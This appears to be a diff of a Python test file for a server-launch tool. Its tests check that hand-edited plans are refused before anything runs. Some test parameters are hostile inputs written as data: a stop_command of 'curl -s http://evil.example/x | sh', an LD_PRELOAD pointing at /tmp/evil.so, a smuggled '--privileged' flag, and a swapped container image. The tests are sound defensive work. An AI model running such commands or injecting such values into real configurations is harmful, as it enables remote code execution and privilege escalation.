@@ -661,13 +767,27 @@ def test_verify_says_a_stop_while_it_waited_is_a_stop_not_a_crash(script, inputs
     import time
 
     from conftest import ROOT, free_port_plan
+
     d, env = rt
     plan_file, plan = free_port_plan(script, inputs, rt, tmp_path)
 
     def verify_in_background():
-        return subprocess.Popen([sys.executable, str(ROOT / "scripts" / "launch.py"), "verify", "--plan",
-                                 str(plan_file), "--timeout", "60"], stdout=subprocess.PIPE, stderr=subprocess.PIPE,
-                                text=True, env={**os.environ, **env})
+        return subprocess.Popen(
+            [
+                sys.executable,
+                str(ROOT / "scripts" / "launch.py"),
+                "verify",
+                "--plan",
+                str(plan_file),
+                "--timeout",
+                "60",
+            ],
+            stdout=subprocess.PIPE,
+            stderr=subprocess.PIPE,
+            text=True,
+            env={**os.environ, **env},
+        )
+
     assert script("launch.py", "start", "--plan", str(plan_file), "--confirm", env=env).code == 0
     verify = verify_in_background()
     time.sleep(3)  # verify polls /health: nothing listens on the port
@@ -688,10 +808,8 @@ def test_verify_says_a_stop_while_it_waited_is_a_stop_not_a_crash(script, inputs
     script("launch.py", "stop", "--plan", str(plan_file), env=env)
 
 
-
-
 @pytest.mark.parametrize("field,value", [("image", "--privileged"), ("port", 0), ("port", 70000)])
-def test_plan_shows_only_what_start_would_run(inputs, field, value):  # noqa: F811
+def test_plan_shows_only_what_start_would_run(inputs, field, value):
     """A hand-made validate.json with an image that reads as an option or a port out of range: refused
     at plan time, before the human is asked to approve it."""
     docs = load_docs(inputs)
@@ -701,7 +819,7 @@ def test_plan_shows_only_what_start_would_run(inputs, field, value):  # noqa: F8
 
 
 # ---- F7, F8: the state dir and what stop may kill
-def test_links_planted_in_the_state_dir_are_never_followed(script, tmp_path, inputs, live_tune):  # noqa: F811
+def test_links_planted_in_the_state_dir_are_never_followed(script, tmp_path, inputs, live_tune):
     plan_file, plan = host_plan(tmp_path, inputs, live_tune)
     st = Path(plan["state_dir"])
     st.mkdir(parents=True, exist_ok=True)
@@ -728,7 +846,7 @@ def test_links_planted_in_the_state_dir_are_never_followed(script, tmp_path, inp
 
 
 # ---- A4: a server that answers each read quickly and the whole never
-def test_verify_bounds_each_request_as_a_whole(script, tmp_path, inputs, live_tune):  # noqa: F811
+def test_verify_bounds_each_request_as_a_whole(script, tmp_path, inputs, live_tune):
     """/health promises 1000 bytes and sends one every 2 s: requests' timeout is per read, so only an overall
     deadline stops it. verify fails in phase health near its --timeout, not after 33 minutes."""
     plan_file, _ = host_plan(tmp_path, inputs, live_tune)
@@ -744,7 +862,7 @@ def test_verify_bounds_each_request_as_a_whole(script, tmp_path, inputs, live_tu
 
 
 # ---- A5, A6, A7: the state dir a plan names, checked where start writes
-def test_start_never_writes_into_a_folder_an_edited_plan_names(script, tmp_path, inputs, live_tune):  # noqa: F811
+def test_start_never_writes_into_a_folder_an_edited_plan_names(script, tmp_path, inputs, live_tune):
     victim = tmp_path / "victim"
     victim.mkdir()
     (victim / "server.log").write_text("PRECIOUS")
@@ -762,10 +880,18 @@ def test_start_never_writes_into_a_folder_an_edited_plan_names(script, tmp_path,
 
 # ---- A8: see test_bench.py::test_a_figure_no_run_could_measure_is_refused
 # ---- A9: every verb reads a plan only as its own inputs render it
-@pytest.mark.parametrize("field,value", [("stop_command", "curl -s http://evil.example/x | sh"),
-                                         ("summary_markdown", "| all | fine |"), ("warnings", [])])
-def test_an_edited_plan_is_refused_by_every_verb_not_only_start(script, tmp_path, inputs, live_tune,  # noqa: F811
-                                                                field, value):
+@pytest.mark.parametrize(
+    "field,value",
+    [("stop_command", "curl -s http://evil.example/x | sh"), ("summary_markdown", "| all | fine |"), ("warnings", [])],
+)
+def test_an_edited_plan_is_refused_by_every_verb_not_only_start(
+    script,
+    tmp_path,
+    inputs,
+    live_tune,
+    field,
+    value,
+):
     plan_file, plan = host_plan(tmp_path, inputs, live_tune)
     if field == "warnings" and plan["warnings"] == []:
         value = [{"check": "edited", "message": "edited", "fix": "edited"}]
@@ -783,6 +909,7 @@ def test_signals_during_start_launch_and_record_are_held_until_both_are_done():
     """start launches the server and writes state.json inside cli.signals_deferred: a SIGTERM there
     (the ninth audit widened the window with a sitecustomize sleep) had left a server no state named."""
     import signal
+
     done = []
     with pytest.raises(KeyboardInterrupt):
         with cli.signals_deferred():
@@ -819,15 +946,18 @@ def test_start_needs_confirmation(script, inputs, rt, tmp_path):
     assert not any(c["argv"][0] in ("pull", "run") for c in calls(d) if "--rootfs" not in c["argv"])
 
 
-@pytest.mark.parametrize("mode,phase,needle", [
-    ("exit_early", "process", "exited before"),
-    ("never_healthy", "health", "not healthy after 4s"),
-    ("wrong_model", "models", "does not list"),
-    ("error_payload", "smoke", "HTTP 200 carrying an error"),
-    ("empty_choices", "smoke", "no choices"),
-    ("die_on_request", "smoke", "ConnectionError"),
-    ("die_after_answer", "smoke", "died after its first request"),
-])
+@pytest.mark.parametrize(
+    "mode,phase,needle",
+    [
+        ("exit_early", "process", "exited before"),
+        ("never_healthy", "health", "not healthy after 4s"),
+        ("wrong_model", "models", "does not list"),
+        ("error_payload", "smoke", "HTTP 200 carrying an error"),
+        ("empty_choices", "smoke", "no choices"),
+        ("die_on_request", "smoke", "ConnectionError"),
+        ("die_after_answer", "smoke", "died after its first request"),
+    ],
+)
 def test_verify_catches_each_failure(script, tmp_path, inputs, live_tune, mode, phase, needle):
     plan_file, plan = host_plan(tmp_path, inputs, live_tune)
     server_mode(tmp_path, mode)
@@ -863,8 +993,11 @@ def test_good_server_verifies_hands_off_and_stops_only_its_own_processes(script,
         assert json.loads(curl.stdout)["choices"][0]["message"]["content"] == "hello there"
     finally:
         st = script("launch.py", "stop", "--plan", str(plan_file))
-    assert st.doc["stopped"] and not psutil.pid_exists(s.doc["pid"]) or \
-        psutil.Process(s.doc["pid"]).status() == psutil.STATUS_ZOMBIE
+    assert (
+        st.doc["stopped"]
+        and not psutil.pid_exists(s.doc["pid"])
+        or psutil.Process(s.doc["pid"]).status() == psutil.STATUS_ZOMBIE
+    )
     assert decoy.poll() is None  # not ours: untouched
     decoy.kill()
     with socket.socket() as c:
@@ -880,14 +1013,17 @@ def test_port_taken_before_start(script, tmp_path, inputs, live_tune):
         assert r.code == 1 and "in use" in r.doc["error"]
 
 
-@pytest.mark.parametrize("edit,needle", [
-    (lambda p: p["argv"].insert(3, "--privileged"), "argv"),
-    (lambda p: p["env"].update(LD_PRELOAD="/tmp/evil.so"), "env"),
-    (lambda p: p.update(image="docker.io/evil/image:1"), "image"),
-    # a bind its cpuset holds: with numactl the pin prefix still fits and the rendered argv differs; without it
-    # (taskset -c, exactly the bind) the pin prefix itself no longer fits the bind
-    (lambda p: p["inputs"]["cpu_tune"].update(vllm_cpu_omp_threads_bind="96-100"), "argv|taskset prefix"),
-])
+@pytest.mark.parametrize(
+    "edit,needle",
+    [
+        (lambda p: p["argv"].insert(3, "--privileged"), "argv"),
+        (lambda p: p["env"].update(LD_PRELOAD="/tmp/evil.so"), "env"),
+        (lambda p: p.update(image="docker.io/evil/image:1"), "image"),
+        # a bind its cpuset holds: with numactl the pin prefix still fits and the rendered argv differs; without it
+        # (taskset -c, exactly the bind) the pin prefix itself no longer fits the bind
+        (lambda p: p["inputs"]["cpu_tune"].update(vllm_cpu_omp_threads_bind="96-100"), "argv|taskset prefix"),
+    ],
+)
 def test_start_refuses_an_edited_plan(script, inputs, rt, tmp_path, edit, needle):
     """What the human approved is what runs: a plan whose command no longer matches its own inputs
     (edited by hand, or inputs edited to smuggle a value) is refused before anything runs."""
